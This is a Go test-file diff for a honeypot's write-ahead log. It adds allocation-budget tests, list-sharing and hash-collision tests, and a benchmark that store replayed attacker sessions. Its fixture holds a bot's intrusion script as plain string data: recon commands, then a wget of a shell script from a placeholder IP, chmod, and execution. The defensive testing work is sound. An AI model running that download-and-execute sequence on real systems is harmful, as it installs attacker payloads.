@@ -3,12 +3,12 @@ package wal
 // What a recovery allocates, and what it must still get right while
 // allocating little: the scan reads every segment into one reused
 // buffer, carves records and their slices from chunked slabs shared
-// across frames, and interns every string field, so a restart costs
-// about what the recovered records keep.
+// across frames, interns every string field and hands a repeated
+// command or URI list out once, so a restart costs about what the
+// recovered records keep.
 
 import (
 	"fmt"
-	"hash/fnv"
 	"os"
 	"path/filepath"
 	"reflect"
@@ -19,12 +19,15 @@ import (
 
 	"honeyfarm/internal/honeypot"
 	"honeyfarm/internal/iofault"
+	"honeyfarm/internal/wire"
 )
 
-// The recovery budget per record, for Open and for Read.
+// The recovery budget per record, for Open and for Read. A log of one
+// replayed script holds each record's command and URI lists once.
 const (
-	maxAllocsPerRec = 0.5
-	maxBytesPerRec  = 600
+	maxAllocsPerRec      = 0.5
+	maxBytesPerRec       = 600
+	maxScriptBytesPerRec = 480
 )
 
 // mixedRecords builds n deterministic records shaped like the
@@ -87,9 +90,47 @@ func mixedRecords(first uint64, n int) []*honeypot.SessionRecord {
 	return out
 }
 
-// writeLog appends batches of mixedRecords to a fresh log in dir and
+// intrusionScript is the six-line CMD+URI session a download bot
+// replays: recon, download, chmod, execute.
+var intrusionScript = []string{
+	"uname -a",
+	"cat /proc/cpuinfo",
+	"free -m",
+	"wget http://203.0.113.9/bins.sh",
+	"chmod +x bins.sh",
+	"./bins.sh",
+}
+
+// scriptRecords builds n records shaped like the wire front's under one
+// bot: Telnet sessions that log in and replay intrusionScript, each
+// record's command and URI lists built anew, as a collector builds them.
+func scriptRecords(first uint64, n int) []*honeypot.SessionRecord {
+	out := make([]*honeypot.SessionRecord, n)
+	for i := range out {
+		id := first + uint64(i)
+		r := &honeypot.SessionRecord{
+			ID:          id,
+			HoneypotID:  int(id % 8),
+			Protocol:    honeypot.Telnet,
+			ClientIP:    "127.0.0.1",
+			ClientPort:  32768 + int(id%28000),
+			Start:       testEpoch.Add(time.Duration(id) * time.Second),
+			End:         testEpoch.Add(time.Duration(id)*time.Second + 2*time.Second),
+			Logins:      []honeypot.LoginAttempt{{User: "root", Password: "1234", Success: true}},
+			URIs:        []string{"http://203.0.113.9/bins.sh"},
+			Termination: honeypot.TermExit,
+		}
+		for _, c := range intrusionScript {
+			r.Commands = append(r.Commands, honeypot.CommandRecord{Input: c, Known: c != "./bins.sh"})
+		}
+		out[i] = r
+	}
+	return out
+}
+
+// writeLog appends batches of gen's records to a fresh log in dir and
 // returns them in log order.
-func writeLog(tb testing.TB, dir string, segBytes int64, sizes []int) []Batch {
+func writeLog(tb testing.TB, dir string, segBytes int64, gen func(uint64, int) []*honeypot.SessionRecord, sizes []int) []Batch {
 	tb.Helper()
 	l, _, err := Open(dir, Options{Epoch: testEpoch, SegmentBytes: segBytes})
 	if err != nil {
@@ -98,7 +139,7 @@ func writeLog(tb testing.TB, dir string, segBytes int64, sizes []int) []Batch {
 	var out []Batch
 	next := uint64(1)
 	for i, n := range sizes {
-		b := Batch{Tag: uint64(i), Records: mixedRecords(next, n)}
+		b := Batch{Tag: uint64(i), Records: gen(next, n)}
 		if err := l.AppendTagged(b.Tag, b.Records); err != nil {
 			tb.Fatal(err)
 		}
@@ -110,20 +151,34 @@ func writeLog(tb testing.TB, dir string, segBytes int64, sizes []int) []Batch {
 	return out
 }
 
-// budgetBatches are the shapes of the logs the budget tests and
-// BenchmarkOpen recover: batches of 250, and one-record frames — what
-// the wire front's sink writes.
-var budgetBatches = []int{250, 1}
+// budgetShape is one log the budget tests and BenchmarkOpen recover,
+// and what a recovery of it may allocate per record.
+type budgetShape struct {
+	name     string
+	batch    int
+	gen      func(uint64, int) []*honeypot.SessionRecord
+	maxBytes float64
+}
 
-// budgetLog writes the log the budget tests and BenchmarkOpen recover:
-// 6,000 records in batches of the given size over 128 KiB segments.
-func budgetLog(tb testing.TB, dir string, batch int) (records, segments int) {
+// budgetShapes are mixedRecords in batches of 250 and in one-record
+// frames — what the wire front's sink writes — and one-record frames of
+// one replayed script, whose repeated command and URI lists a recovery
+// decodes once.
+var budgetShapes = []budgetShape{
+	{"batch=250", 250, mixedRecords, maxBytesPerRec},
+	{"batch=1", 1, mixedRecords, maxBytesPerRec},
+	{"script", 1, scriptRecords, maxScriptBytesPerRec},
+}
+
+// budgetLog writes the log of a shape: 6,000 records in batches of its
+// size over 128 KiB segments.
+func budgetLog(tb testing.TB, dir string, shape budgetShape) (records, segments int) {
 	tb.Helper()
-	sizes := make([]int, 6000/batch)
+	sizes := make([]int, 6000/shape.batch)
 	for i := range sizes {
-		sizes[i] = batch
+		sizes[i] = shape.batch
 	}
-	writeLog(tb, dir, 128<<10, sizes)
+	writeLog(tb, dir, 128<<10, shape.gen, sizes)
 	segs, err := listSegments(iofault.OS, dir)
 	if err != nil {
 		tb.Fatal(err)
@@ -149,10 +204,10 @@ func allocsPerRec(records int, read func()) (allocs, bytes float64) {
 // record: the records it returns and little else, whether the log
 // holds large batches or one record per frame.
 func TestRecoverAllocBudget(t *testing.T) {
-	for _, batch := range budgetBatches {
-		t.Run(fmt.Sprintf("batch=%d", batch), func(t *testing.T) {
+	for _, shape := range budgetShapes {
+		t.Run(shape.name, func(t *testing.T) {
 			dir := t.TempDir()
-			records, segs := budgetLog(t, dir, batch)
+			records, segs := budgetLog(t, dir, shape)
 			var got int
 			allocs, bytes := allocsPerRec(records, func() {
 				l, rec, err := Open(dir, Options{})
@@ -168,9 +223,9 @@ func TestRecoverAllocBudget(t *testing.T) {
 				t.Fatalf("recovered %d records, want %d", got, records)
 			}
 			t.Logf("Open over %d segments: %.2f allocs and %.0f B per record", segs, allocs, bytes)
-			if allocs > maxAllocsPerRec || bytes > maxBytesPerRec {
-				t.Errorf("Open allocated %.2f objects and %.0f B per record, budget %.1f and %d B",
-					allocs, bytes, maxAllocsPerRec, maxBytesPerRec)
+			if allocs > maxAllocsPerRec || bytes > shape.maxBytes {
+				t.Errorf("Open allocated %.2f objects and %.0f B per record, budget %.1f and %.0f B",
+					allocs, bytes, maxAllocsPerRec, shape.maxBytes)
 			}
 		})
 	}
@@ -179,10 +234,10 @@ func TestRecoverAllocBudget(t *testing.T) {
 // TestIteratorAllocBudget holds a read-only drain of the same logs
 // through Read, the reader behind analyze -in, to the same budget.
 func TestIteratorAllocBudget(t *testing.T) {
-	for _, batch := range budgetBatches {
-		t.Run(fmt.Sprintf("batch=%d", batch), func(t *testing.T) {
+	for _, shape := range budgetShapes {
+		t.Run(shape.name, func(t *testing.T) {
 			dir := t.TempDir()
-			records, segs := budgetLog(t, dir, batch)
+			records, segs := budgetLog(t, dir, shape)
 			var got int
 			allocs, bytes := allocsPerRec(records, func() {
 				rec, err := Read(dir)
@@ -195,9 +250,9 @@ func TestIteratorAllocBudget(t *testing.T) {
 				t.Fatalf("read %d records, want %d", got, records)
 			}
 			t.Logf("Read over %d segments: %.2f allocs and %.0f B per record", segs, allocs, bytes)
-			if allocs > maxAllocsPerRec || bytes > maxBytesPerRec {
-				t.Errorf("Read allocated %.2f objects and %.0f B per record, budget %.1f and %d B",
-					allocs, bytes, maxAllocsPerRec, maxBytesPerRec)
+			if allocs > maxAllocsPerRec || bytes > shape.maxBytes {
+				t.Errorf("Read allocated %.2f objects and %.0f B per record, budget %.1f and %.0f B",
+					allocs, bytes, maxAllocsPerRec, shape.maxBytes)
 			}
 		})
 	}
@@ -208,7 +263,7 @@ func TestIteratorAllocBudget(t *testing.T) {
 // from the same chunk must read back byte for byte as before. Records
 // come from one 250-record frame and from consecutive one-record frames.
 func TestSlabCarvesDoNotAlias(t *testing.T) {
-	for _, batch := range budgetBatches {
+	for _, batch := range []int{250, 1} {
 		t.Run(fmt.Sprintf("batch=%d", batch), func(t *testing.T) {
 			// Every record holds all four slices, so each carve has a
 			// neighbour in the same chunk.
@@ -267,15 +322,128 @@ func TestSlabCarvesDoNotAlias(t *testing.T) {
 	}
 }
 
+// TestRepeatedListsShare recovers a log that replays one script, in
+// one-record frames and then in a batch, with every fifth record's
+// script changed in its last command's Known flag or its URI: each
+// record reads back as appended, and the records of one script share
+// one command array and one URI array, across frames and segments.
+func TestRepeatedListsShare(t *testing.T) {
+	appended := scriptRecords(1, 200)
+	for i, r := range appended {
+		switch i % 10 {
+		case 4:
+			r.Commands[len(r.Commands)-1].Known = true
+		case 9:
+			r.URIs = append(r.URIs, "http://203.0.113.9/bins.arm")
+		}
+	}
+	dir := t.TempDir()
+	l, _, err := Open(dir, Options{Epoch: testEpoch, SegmentBytes: 8 << 10})
+	if err != nil {
+		t.Fatal(err)
+	}
+	for i := 0; i < 150; i++ {
+		if err := l.AppendTagged(uint64(i), appended[i:i+1]); err != nil {
+			t.Fatal(err)
+		}
+	}
+	if err := l.AppendTagged(150, appended[150:]); err != nil {
+		t.Fatal(err)
+	}
+	if err := l.Close(); err != nil {
+		t.Fatal(err)
+	}
+	read, err := Read(dir)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(read.Segments) < 3 {
+		t.Fatalf("log spans %d segments, want at least 3", len(read.Segments))
+	}
+	var got []*honeypot.SessionRecord
+	for _, b := range read.Batches {
+		got = append(got, b.Records...)
+	}
+	if !reflect.DeepEqual(got, appended) {
+		t.Fatal("recovered records differ from those appended")
+	}
+	// The first record of each variant holds the array every later one
+	// of the same variant must share; variants must not share theirs.
+	cmds := map[bool]*honeypot.CommandRecord{}
+	uris := map[int]*string{}
+	for i, r := range got {
+		if len(r.Commands) != cap(r.Commands) || len(r.URIs) != cap(r.URIs) {
+			t.Fatalf("record %d: a shared list has spare capacity", i)
+		}
+		known := r.Commands[len(r.Commands)-1].Known
+		if first, ok := cmds[known]; !ok {
+			cmds[known] = &r.Commands[0]
+		} else if first != &r.Commands[0] {
+			t.Errorf("record %d does not share its script's command array", i)
+		}
+		if first, ok := uris[len(r.URIs)]; !ok {
+			uris[len(r.URIs)] = &r.URIs[0]
+		} else if first != &r.URIs[0] {
+			t.Errorf("record %d does not share its URI array", i)
+		}
+	}
+	if cmds[true] == cmds[false] || uris[1] == uris[2] {
+		t.Error("different lists share one array")
+	}
+}
+
+// TestListCollision alternates lists whose encodings share a
+// list-table slot across the records of one batch — two commands that
+// differ only in Known, two that differ only in input, and two URIs:
+// each record still decodes its own lists.
+func TestListCollision(t *testing.T) {
+	slot := func(b *wire.Builder) uint64 { return hashBytes(b.Bytes()) % listSlots }
+	cmdSlot := func(c honeypot.CommandRecord) uint64 {
+		return slot(wire.NewBuilder(64).Uint32(1).Text(c.Input).Bool(c.Known))
+	}
+	uriSlot := func(u string) uint64 { return slot(wire.NewBuilder(64).Uint32(1).Text(u)) }
+	var cmds []honeypot.CommandRecord
+	for i := 0; len(cmds) < 2; i++ {
+		c := honeypot.CommandRecord{Input: fmt.Sprintf("cd /tmp/%d", i), Known: true}
+		if other := (honeypot.CommandRecord{Input: c.Input}); cmdSlot(c) == cmdSlot(other) {
+			cmds = append(cmds, c, other)
+		}
+	}
+	firstCmd := map[uint64]honeypot.CommandRecord{}
+	for i := 0; len(cmds) < 4; i++ {
+		c := honeypot.CommandRecord{Input: fmt.Sprintf("uname -%d", i), Known: true}
+		if prev, ok := firstCmd[cmdSlot(c)]; ok {
+			cmds = append(cmds, prev, c)
+		}
+		firstCmd[cmdSlot(c)] = c
+	}
+	var uris []string
+	firstURI := map[uint64]string{}
+	for i := 0; len(uris) < 2; i++ {
+		u := fmt.Sprintf("http://198.51.100.%d/x", i)
+		if prev, ok := firstURI[uriSlot(u)]; ok {
+			uris = append(uris, prev, u)
+		}
+		firstURI[uriSlot(u)] = u
+	}
+	recs := mkRecords(1, 64)
+	for i, r := range recs {
+		r.Commands = []honeypot.CommandRecord{cmds[i%4]}
+		r.URIs = []string{uris[i%2]}
+	}
+	got := binaryRoundTrip(t, 1, recs)
+	for i, r := range got.Records {
+		if !reflect.DeepEqual(r.Commands, recs[i].Commands) || !reflect.DeepEqual(r.URIs, recs[i].URIs) {
+			t.Fatalf("record %d decoded %+v %q, want %+v %q", i, r.Commands, r.URIs, recs[i].Commands, recs[i].URIs)
+		}
+	}
+}
+
 // TestInternCollision alternates two strings that share an intern slot
 // across the records of one batch: each record still decodes its own.
 func TestInternCollision(t *testing.T) {
-	slot := func(s string) uint32 {
-		h := fnv.New32a()
-		h.Write([]byte(s))
-		return h.Sum32() % internSlots
-	}
-	first := map[uint32]string{}
+	slot := func(s string) uint64 { return hashBytes([]byte(s)) % internSlots }
+	first := map[uint64]string{}
 	var a, b string
 	for i := 0; b == ""; i++ {
 		s := fmt.Sprintf("192.0.2.%d:%d", i%256, i/256)
@@ -304,7 +472,7 @@ func TestInternCollision(t *testing.T) {
 func TestRecoverBufferReuse(t *testing.T) {
 	dir := t.TempDir()
 	// One batch per segment: every append fills one.
-	want := writeLog(t, dir, 1, []int{40, 5, 120, 20, 3, 200, 60})
+	want := writeLog(t, dir, 1, mixedRecords, []int{40, 5, 120, 20, 3, 200, 60})
 	l, rec, err := Open(dir, Options{})
 	if err != nil {
 		t.Fatal(err)
@@ -352,7 +520,7 @@ func (a appendingFS) OpenFile(name string, flag int, perm os.FileMode) (iofault.
 // bytes — however far the file grew since.
 func TestVerifyLiveAppend(t *testing.T) {
 	dir := t.TempDir()
-	want := writeLog(t, dir, 8<<20, []int{10, 10, 10})
+	want := writeLog(t, dir, 8<<20, mixedRecords, []int{10, 10, 10})
 	listed, err := listSegments(iofault.OS, dir)
 	if err != nil {
 		t.Fatal(err)
@@ -378,13 +546,13 @@ func TestVerifyLiveAppend(t *testing.T) {
 	}
 }
 
-// BenchmarkOpen recovers a fixed multi-segment log: the recovery row of
-// the package, reported per record.
+// BenchmarkOpen recovers a fixed multi-segment log of each budget
+// shape: the recovery row of the package, reported per record.
 func BenchmarkOpen(b *testing.B) {
-	for _, batch := range budgetBatches {
-		b.Run(fmt.Sprintf("batch=%d", batch), func(b *testing.B) {
+	for _, shape := range budgetShapes {
+		b.Run(shape.name, func(b *testing.B) {
 			dir := b.TempDir()
-			records, _ := budgetLog(b, dir, batch)
+			records, _ := budgetLog(b, dir, shape)
 			b.ReportAllocs()
 			var before, after runtime.MemStats
 			runtime.ReadMemStats(&before)
@@ -403,6 +571,7 @@ func BenchmarkOpen(b *testing.B) {
 			n := float64(records * b.N)
 			b.ReportMetric(n/b.Elapsed().Seconds(), "records/s")
 			b.ReportMetric(float64(after.Mallocs-before.Mallocs)/n, "allocs/record")
+			b.ReportMetric(float64(after.TotalAlloc-before.TotalAlloc)/n, "B/record")
 		})
 	}
 }
